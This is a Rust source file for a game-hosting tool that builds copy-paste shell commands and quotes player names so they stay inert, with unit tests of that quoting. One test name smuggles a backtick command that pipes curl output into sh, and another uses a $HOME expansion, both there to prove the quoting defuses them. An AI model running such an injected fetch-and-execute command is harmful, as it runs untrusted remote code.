//! Commands for a game master to copy into a shell. What strangers wrote must do nothing there.

use super::CampaignId;
use crate::engine::Seat;

/// The command that gives a seat to somebody.
pub fn replace(campaign: &CampaignId, seat: Seat, name: &str, address: &str) -> String {
    format!("ashpost replace {campaign} {seat} {}", quoted(&format!("{name} <{address}>")))
}

/// A word quoted for a shell.
pub fn quoted(word: &str) -> String {
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "@.+-_/".contains(letter);
    let is_sound = |letter: char| !matches!(letter, '"' | '$' | '`' | '\\' | '!');
    if !word.is_empty() && word.chars().all(is_plain) {
        word.to_owned()
    } else if word.chars().all(is_sound) {
        format!("\"{word}\"")
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_strangers_name_is_one_word_to_a_shell() {
        let campaign = CampaignId::typed("rim-3").unwrap();
        let command = |name: &str| replace(&campaign, Seat(2), name, "a@b.example");
        assert_eq!(command("Ann O'Neil"), "ashpost replace rim-3 2 \"Ann O'Neil <a@b.example>\"");
        assert_eq!(command("A `curl a.co|sh` B"), "ashpost replace rim-3 2 'A `curl a.co|sh` B <a@b.example>'");
        assert_eq!(command("O'$HOME!"), r"ashpost replace rim-3 2 'O'\''$HOME! <a@b.example>'");
    }
}
